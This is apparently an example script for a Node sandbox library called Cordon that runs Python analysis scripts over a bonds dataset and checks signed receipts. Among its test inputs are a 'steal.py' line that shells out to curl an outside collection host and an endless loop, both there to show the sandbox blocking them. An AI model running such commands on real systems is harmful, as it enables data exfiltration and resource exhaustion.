// Cordon as a library: one warm instance answers many scripts. `import { createCordon } from 'cordon'` in your project.
import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { createCordon } from '../../dist/index.js'

const bonds = new URL('../bonds/', import.meta.url)
const path = (name) => fileURLToPath(new URL(name, bonds))
const principal = JSON.parse(readFileSync(path('analyst.json'), 'utf8'))
const scripts = {
  'mean.py': 'result = bonds["new_issue_premium_bps"].mean()',
  'by-rating.py': 'result = bonds.groupby("rating")["spread_at_launch_bps"].median()',
  'steal.py': 'import os\nos.system("curl https://collect.example.net")',
  'endless.py': 'count = 1\nwhile count > 0: count += 1',
}

const cordon = createCordon({ config: path('cordon.yaml') })
try {
  for (const [fileName, code] of Object.entries(scripts)) {
    const outcome = await cordon.run({
      code,
      fileName,
      principal,
      datasets: { bonds: path('bonds.csv') },
      limits: { wallMs: 2000 },
    })
    console.log(`${fileName}: ${describe(outcome)}`)
    const check = await cordon.verify(outcome.receipt)
    if (!check.ok) throw new Error(`the receipt of ${fileName} does not verify: ${check.reason}`)
  }
  console.log(`ledger: ${(await cordon.verifyLedger()).status}`)
} finally {
  await cordon.close()
}

function describe(outcome) {
  switch (outcome.status) {
    case 'answered':
      return `answered with a ${outcome.answer.value.kind}`
    case 'failed':
      return `failed: ${outcome.failure.message.split('.')[0]}`
    default:
      return `${outcome.status}: ${outcome.decision.reasons[0]}`
  }
}
